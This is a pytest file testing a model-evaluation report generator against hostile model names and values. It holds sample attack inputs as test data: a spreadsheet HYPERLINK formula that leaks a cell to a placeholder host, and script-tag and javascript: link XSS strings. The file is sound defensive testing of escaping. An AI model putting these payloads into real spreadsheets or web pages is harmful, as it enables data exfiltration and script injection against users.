"""`apigen-mt report` on hostile names and values (issue 30, items 3 and 4): a `$` in a model or
environment name is drawn as a dollar sign instead of stopping the report in matplotlib's mathtext;
no leaderboard.csv cell is a spreadsheet formula; the markdown table keeps its columns; the HTML page
runs nothing and is no wider than its window; for any hostile name or summary value. The same holds
for differences.csv and the differences tables, and for hostile interval fields."""

from __future__ import annotations

import csv
import json
import re
import shutil
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hostile import HOSTILE_TEXTS, check_site, copy_source, hostile_text, mutated
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from viewrun import write_sources

from evaluation.report import board, csv_cell, markdown_cell, write_report
from evaluation.report.plots import label

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # a spreadsheet reads it as a number, not a formula


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    sources = write_sources(tmp_path_factory.mktemp("results"))
    return {k: sources[k] for k in ("run", "tau", "bfcl", "next-action")}


def _named(
    results: dict[str, Path], root: Path, model: str, env: str, tau: Any = None, na: Any = None
) -> list[Path]:
    """Copies of the results whose model (and τ environment) names are ``model`` and ``env``; ``tau``
    and ``na`` replace the τ and next-action summaries first."""
    dirs = {k: copy_source(p, root / k) for k, p in results.items()}

    def summary(new: Any, **names: str):
        return lambda s: (s.update(new or {}), s.update(names))

    _edit(dirs["tau"] / "summary.json", summary(tau, agent=model, env=env))
    _edit(dirs["bfcl"] / "settings.json", summary(None, model=model, label=""))
    _edit(dirs["next-action"] / "next_action_summary.json", summary(na, model=model))
    return list(dirs.values())


def _edit(path: Path, change) -> None:
    value = json.loads(path.read_text(encoding="utf-8"))
    change(value)
    path.write_text(json.dumps(value), encoding="utf-8")


def _cells(line: str) -> list[str]:
    """The cells of one markdown table line, reading ``\\x`` as an escaped character."""
    cells, cell, escaped = [], "", False
    for char in line.strip()[1:-1]:
        if escaped:
            cell, escaped = cell + char, False
        elif char == "\\":
            cell, escaped = cell + char, True
        elif char == "|":
            cells, cell = [*cells, cell], ""
        else:
            cell += char
    return [*cells, cell]


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell[:80]
    return rows


def _md_table(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("|")]


def _check_outputs(out: Path) -> list[list[str]]:
    """What every report holds, whatever the names: returns the leaderboard.csv rows."""
    rows = _csv_rows(out / "leaderboard.csv")
    compared = _csv_rows(out / "differences.csv")
    assert compared[0] == board.DIFFERENCE_CSV_HEADER
    md = (out / "leaderboard.md").read_text(encoding="utf-8")
    leaderboard, _, differences = md.partition("\n## Differences between models\n")
    table, compared_table = _md_table(leaderboard), _md_table(differences)
    assert len(table) == len(rows) + 1  # header, rule, a line per model
    assert {len(_cells(line)) for line in table} == {1 + (len(rows[0]) - 1) // 3}  # value, low, high
    assert len(compared_table) == (len(compared) + 1 if len(compared) > 1 else 0)
    assert {len(_cells(line)) for line in compared_table} <= {len(board.DIFFERENCE_HEADER)}
    for line in table + compared_table:
        assert not re.search(r"(?<!\\)[<>\[]", line), line[:200]  # no markup, no link
    check_site(out)  # leaderboard.html: no script, no event attribute, no link but relative/http/https
    for png in out.glob("*.png"):
        assert png.read_bytes().startswith(b"\x89PNG")
    return rows


@pytest.mark.parametrize("name", ["$\\notacommand$", "$x^2$ agent $", "cost $5 and $6", "a\\$b$c"])
def test_a_dollar_in_a_name_is_drawn_not_parsed(results: dict[str, Path], tmp_path: Path, name: str):
    """Item 3: mathtext between two `$` stopped the report with exit 2 and no leaderboard."""
    dirs = _named(results, tmp_path / "in", name, f"env {name}")
    write_report(dirs, tmp_path / "out")
    rows = _check_outputs(tmp_path / "out")
    assert [r[0] for r in rows[1:]] == [name]
    assert {p.name for p in (tmp_path / "out").glob("*.png")} == {
        "funnel.png", "bfcl_categories.png", "tau_pass_k.png", "next_action.png"
    }  # fmt: skip


def test_labels_reach_matplotlib_as_literal_text():
    import matplotlib

    matplotlib.use("Agg")
    from matplotlib.text import Text

    for name in ("$\\alpha$", "a$b$c", "$", "\\$x$"):
        text = Text(text=label(name))
        assert text._preprocess_math(text.get_text()) == (name, False)
    assert len(label("m" * 10_000)) == 60 and "\ufffd" in label("a\ud83d\x07")


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_no_csv_cell_is_a_formula(results: dict[str, Path], tmp_path: Path, name: str):
    """Item 4: a model name like =HYPERLINK(...) was written raw into leaderboard.csv."""
    dirs = _named(results, tmp_path / "in", name, name)
    write_report(dirs, tmp_path / "out")
    rows = _check_outputs(tmp_path / "out")
    assert rows[1][0] == "'" + name
    assert f"τ {name} pass^1" in rows[0]


def test_cell_writers():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("x=1") == "x=1" and csv_cell("\ud83d") == "\ufffd"
    assert csv_cell("-2.5") == "-2.5" and csv_cell("-2") == "-2"  # a difference stays a number
    assert csv_cell("-2.5 ") == "'-2.5 " and csv_cell("-1e3") == "'-1e3" and csv_cell("+1") == "'+1"
    assert markdown_cell("a|b\nc <b>[x](javascript:y)</b>") == "a\\|b c \\<b\\>\\[x\\](javascript:y)\\</b\\>"


def test_two_hostile_names_leave_safe_differences(results: dict[str, Path], tmp_path: Path):
    """The differences between two models name both: differences.csv, its markdown table and its HTML
    table treat the names as the leaderboard does."""
    first, second = '=HYPERLINK("http://x.invalid/?"&A1,"click")', "|a|b| [x](javascript:alert(1)) <script>"
    dirs = _named(results, tmp_path / "a", first, "env") + _named(results, tmp_path / "b", second, "env")
    html, _ = write_report(dirs, tmp_path / "out")
    _check_outputs(tmp_path / "out")
    compared = _csv_rows(tmp_path / "out" / "differences.csv")
    assert len(compared) > 1 and {(r[1], r[2]) for r in compared[1:]} == {("'" + first, second)}
    table = html.read_text(encoding="utf-8").split('<table id="differences">', 1)[1].split("</table>", 1)[0]
    assert "&lt;script&gt;" in table and "<script" not in table


@settings(max_examples=8, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(data=st.data())
def test_any_hostile_name_or_value_leaves_a_whole_report(results: dict[str, Path], data: st.DataObject):
    with tempfile.TemporaryDirectory(prefix="hostile-report-") as folder:
        root = Path(folder)
        tau_summary = json.loads((results["tau"] / "summary.json").read_text())
        na_summary = json.loads((results["next-action"] / "next_action_summary.json").read_text())
        env, dataset = data.draw(hostile_text), data.draw(hostile_text)
        dirs = []
        for copy in ("a", "b"):  # two models, so that differences are written too
            dirs += _named(
                results, root / copy, data.draw(hostile_text), env,
                tau=data.draw(mutated(tau_summary)), na={**data.draw(mutated(na_summary)), "data": [dataset]},
            )  # fmt: skip
            scores = dirs[-2] / "score" / "scores.json"
            _edit(
                scores,
                lambda s: s["categories"].update({data.draw(hostile_text): data.draw(st.floats(0, 1))}),
            )
            _edit(scores, lambda s: s.update(intervals=data.draw(mutated(s["intervals"]))))
        write_report(dirs, root / "out", title=data.draw(hostile_text))
        _check_outputs(root / "out")


def test_the_html_report_runs_nothing_and_fits_its_window(results: dict[str, Path], tmp_path: Path):
    from viewer.browser import Browser, find_chromium

    if find_chromium() is None:
        pytest.skip("Debian's chromium is not installed (scripts/test-setup.sh installs it)")
    name = "x" * 20_000 + "".join(HOSTILE_TEXTS)
    dirs = _named(results, tmp_path / "in", name, "</title><script>alert(1)</script>")
    html, _ = write_report(dirs, tmp_path / "out", title="<script>window.__pwned=1</script>")
    with Browser() as browser:
        browser.watch("Runtime.bindingCalled")
        browser.add_binding("__pwned_report")
        browser.on_every_document(
            "Object.defineProperty(window, '__pwned', {set(v) { __pwned_report('set'); }});"
            "window.alert = () => __pwned_report('alert');"
        )
        browser.open(html.resolve().as_uri(), rendered=False)
        page = browser.evaluate(
            "({wide: document.documentElement.scrollWidth, vw: innerWidth, rows: document.querySelectorAll('#leaderboard tbody tr').length,"
            " images: [...document.images].filter(i => i.complete && i.naturalWidth > 100).length})"
        )
        browser.evaluate("1")
        assert not browser.events
    assert page["wide"] <= page["vw"] and page["rows"] == 1 and page["images"] == 4
    shutil.rmtree(tmp_path / "in")
    assert re.search(r"&lt;script&gt;window.__pwned=1&lt;/script&gt;", html.read_text())
